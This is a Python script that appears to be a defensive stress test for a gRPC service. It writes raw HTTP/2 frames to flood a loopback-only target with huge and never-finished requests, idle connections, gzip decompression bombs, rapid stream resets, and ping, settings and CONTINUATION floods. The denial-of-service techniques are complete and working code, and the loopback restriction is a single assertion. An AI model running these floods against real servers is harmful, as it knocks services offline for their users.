"""A flood without a valid key: raw HTTP/2 frames, made once and sent as fast as the server takes them. Loopback only.

usage: strangers.py ADDRESS SECONDS      prints one JSON line: what was sent, by kind

- large: requests of 16 MiB, four at a time on each of four connections, begun again when they are refused.
- small: as many calls as the server allows on each of sixteen connections, each begun again at once.
- unfinished: forty connections with 16 MiB requests of which the last byte never comes, to our methods and to health.
- connections: up to 1,500 that say nothing, or nothing after the first frame, opened again when they are closed.
- streams: health watches, as many as the server allows on each of ten connections.
- compressed: fifty connections at a time with four health checks each, whose 15 KB would swell to 15 MiB.
- resets, pings, settings, continuations: eight connections each with nothing but calls that are canceled at once, pings,
  settings, or header blocks that never end. They are no part of the default.
"""

from __future__ import annotations

import asyncio
import json
import socket
import ssl
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_LARGE = 16 << 20
_CHUNK = b"\x0a\x00" * 8192
SENT: Counter[str] = Counter()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def headers(path: str, **more: str) -> bytes:
    """Literals without an index: the server's table does not matter."""
    values = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
        "tmc-app": "orders",
        "authorization": "Bearer wrong",
        **more,
    }
    return b"".join(
        b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(text),)) + text.encode()
        for name, text in values.items()
    )


class Connection(asyncio.Protocol):
    """Keeps `wide` calls to `path` open. size: of each message; its last byte is never sent if `unfinished`."""

    def __init__(
        self, kind: str, path: str, wide: int, size: int, unfinished: bool = False, hold: bool = False
    ) -> None:
        self.kind, self.wide, self.size, self.unfinished, self.hold = kind, wide, size, unfinished, hold
        self.block = headers(path)
        self.closed = asyncio.get_running_loop().create_future()
        self.rest = b""
        self.window, self.first_window, self.allowed = 65_535, 65_535, 1 << 30
        self.open: dict[int, list[int]] = {}  # stream: its window, bytes left
        self.next = 1
        self.writing = True

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        transport.write(_PREFACE + frame(_SETTINGS, 0, 0) + frame(_WINDOW, 0, 0, struct.pack(">I", 1 << 30)))

    def connection_lost(self, _exc: Exception | None) -> None:
        if not self.closed.done():
            self.closed.set_result(None)

    def pause_writing(self) -> None:
        self.writing = False

    def resume_writing(self) -> None:
        self.writing = True
        self.fill()

    def data_received(self, data: bytes) -> None:
        data = self.rest + data
        at = 0
        while len(data) - at >= 9:
            size = int.from_bytes(data[at : at + 3], "big")
            if len(data) - at < 9 + size:
                break
            stream = int.from_bytes(data[at + 5 : at + 9], "big")
            self.received(data[at + 3], data[at + 4], stream, data[at + 9 : at + 9 + size])
            at += 9 + size
        self.rest = data[at:]
        self.fill()

    def received(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == 4:
                    self.first_window = value
                elif name == 3:
                    self.allowed = value
            self.transport.write(frame(_SETTINGS, _ACK, 0))
        elif kind == _PING and not flags & _ACK:
            self.transport.write(frame(_PING, _ACK, 0, payload))
        elif kind == _WINDOW:
            by = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += by
            elif stream in self.open:
                self.open[stream][0] += by
        elif (kind == _RESET or (kind in (_HEADERS, _DATA) and flags & _END_STREAM)) and self.open.pop(stream, None):
            SENT[f"{self.kind}_refused"] += 1
        elif kind == _GOAWAY:
            self.transport.close()

    def fill(self) -> None:
        if self.transport.is_closing():
            return
        out: list[bytes] = []
        while self.writing and len(self.open) < min(self.wide, self.allowed) and self.next < 1 << 31:
            stream, self.next = self.next, self.next + 2
            self.open[stream] = [self.first_window, self.size + 5]
            SENT[f"{self.kind}_calls"] += 1
            out.append(frame(_HEADERS, _END_HEADERS, stream, self.block))
            if len(out) >= 64:
                break
        for stream, state in self.open.items():
            out += self.message(stream, state)
            if len(out) > 256:
                break
        if out and not self.transport.is_closing():
            self.transport.write(b"".join(out))

    def message(self, stream: int, state: list[int]) -> Iterator[bytes]:
        keep = 1 if self.unfinished else 0
        while state[1] > keep and (room := min(state[0], self.window, state[1] - keep, 16_384)) > 0:
            first = state[1] == self.size + 5
            payload = (b"\0" + struct.pack(">I", self.size) + _CHUNK if first else _CHUNK)[:room]
            state[0] -= len(payload)
            state[1] -= len(payload)
            self.window -= len(payload)
            SENT[f"{self.kind}_bytes"] += len(payload)
            yield frame(_DATA, 0 if state[1] or self.hold else _END_STREAM, stream, payload)


PREPARE, PREPARE_MANY = "/tmc.v1.MessageService/Prepare", "/tmc.v1.MessageService/PrepareMany"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"


async def keep(host: str, port: int, *settings: object) -> None:
    """One connection, opened again whenever it is closed."""
    loop = asyncio.get_running_loop()
    while True:
        try:
            _, made = await loop.create_connection(lambda: Connection(*settings), host, port)  # type: ignore[arg-type]
            await made.closed
        except OSError:
            SENT["connections_refused"] += 1
        await asyncio.sleep(0.01)


async def keep_silent(host: str, port: int, first: bytes) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            SENT["silent_connections"] += 1
            writer.write(first)
            while await reader.read(65_536):
                pass
            writer.close()
        except OSError:
            SENT["connections_refused"] += 1
        await asyncio.sleep(0.05)


async def keep_swelling(host: str, port: int) -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = packer.compress(bytes(15 << 20)) + packer.flush()
    message = b"\1" + struct.pack(">I", len(packed)) + packed
    block = headers(CHECK, **{"grpc-encoding": "gzip"})
    calls = [
        frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, _END_STREAM, stream, message)
        for stream in (1, 3, 5, 7)
    ]
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(_PREFACE + frame(_SETTINGS, 0, 0) + b"".join(calls))
            SENT["compressed_calls"] += len(calls)
            with suppress(TimeoutError):
                async with asyncio.timeout(1):
                    while await reader.read(65_536):
                        pass
            writer.close()
        except OSError:
            SENT["connections_refused"] += 1


def reset_calls(first: int) -> bytes:
    """A hundred calls that are canceled at once. first: stream of the first."""
    block, canceled = headers(PREPARE), struct.pack(">I", 8)
    return b"".join(
        frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RESET, 0, stream, canceled)
        for stream in range(first, first + 200, 2)
    )


def continued(_first: int) -> bytes:
    return frame(_CONTINUATION, 0, 1, (b"\x00\x01a\x7f" + b"\x00" + b"a" * 127) * 60) * 10


def pings(_first: int) -> bytes:
    return frame(_PING, 0, 0, bytes(8)) * 200


def settings(_first: int) -> bytes:
    return frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 200


FRAMES: dict[str, tuple[bytes, Callable[[int], bytes]]] = {
    "resets": (b"", reset_calls),
    "pings": (b"", pings),
    "settings": (b"", settings),
    "continuations": (frame(_HEADERS, 0, 1, headers(PREPARE)), continued),
}


async def keep_sending(
    host: str,
    port: int,
    kind: str,
    *,
    tls: ssl.SSLContext | None = None,
    source: str = "",
    is_over: Callable[[], bool] = lambda: False,
) -> None:
    """Send frames of a kind as fast as the server reads them, whatever it answers; connect again when it closes.

    source: our own address. is_over: ends it without a cancellation, which in the middle of a TLS handshake would leave a
    socket of asyncio's open.
    """
    local = (source, 0) if source else None
    first, more = FRAMES[kind]
    while not is_over():
        writer = None
        try:
            reader, writer = await asyncio.open_connection(host, port, ssl=tls, local_addr=local)
            SENT[f"{kind}_connections"] += 1
            reading = asyncio.ensure_future(_read_all(reader))
            writer.write(_PREFACE + frame(_SETTINGS, 0, 0) + first)
            stream = 1
            while not (reading.done() or is_over()):
                writer.write(more(stream))
                SENT[f"{kind}_sent"] += 1
                stream += 200
                with suppress(TimeoutError):
                    async with asyncio.timeout(1):
                        await writer.drain()
                await asyncio.sleep(0)
        except OSError:
            SENT["connections_refused"] += 1
        finally:
            if writer is not None:
                writer.transport.abort()
        await asyncio.sleep(0.01)


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65_536):
            pass


async def flood(host: str, port: int, seconds: float, kinds: list[str]) -> None:
    made = {
        "large": [keep(host, port, "large", PREPARE_MANY, 4, _LARGE) for _ in range(4)],
        "small": [keep(host, port, "small", PREPARE, 1000, 20) for _ in range(16)],
        "unfinished": [
            keep(host, port, "unfinished", path, 4, _LARGE, True) for path in (PREPARE, CHECK) for _ in range(20)
        ],
        "connections": [
            keep_silent(host, port, first) for first in (b"", _PREFACE + frame(_SETTINGS, 0, 0)) for _ in range(750)
        ],
        "streams": [keep(host, port, "streams", WATCH, 1000, 0, False, True) for _ in range(10)],
        "compressed": [keep_swelling(host, port) for _ in range(50)],
        **{kind: [keep_sending(host, port, kind) for _ in range(8)] for kind in FRAMES},
    }
    for kind, each in made.items():
        if kind not in kinds:
            for work in each:
                work.close()
    tasks = [asyncio.ensure_future(work) for kind in kinds for work in made[kind]]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def main(address: str, seconds: str, kinds: str = "large,small,unfinished,connections,streams,compressed") -> None:
    host, _, port = address.rpartition(":")
    assert socket.gethostbyname(host).startswith("127."), "loopback only"
    began = time.monotonic()
    asyncio.run(flood(host, int(port), float(seconds), kinds.split(",")))
    print(json.dumps({**SENT, "seconds": round(time.monotonic() - began, 1)}))


if __name__ == "__main__":
    main(*sys.argv[1:])
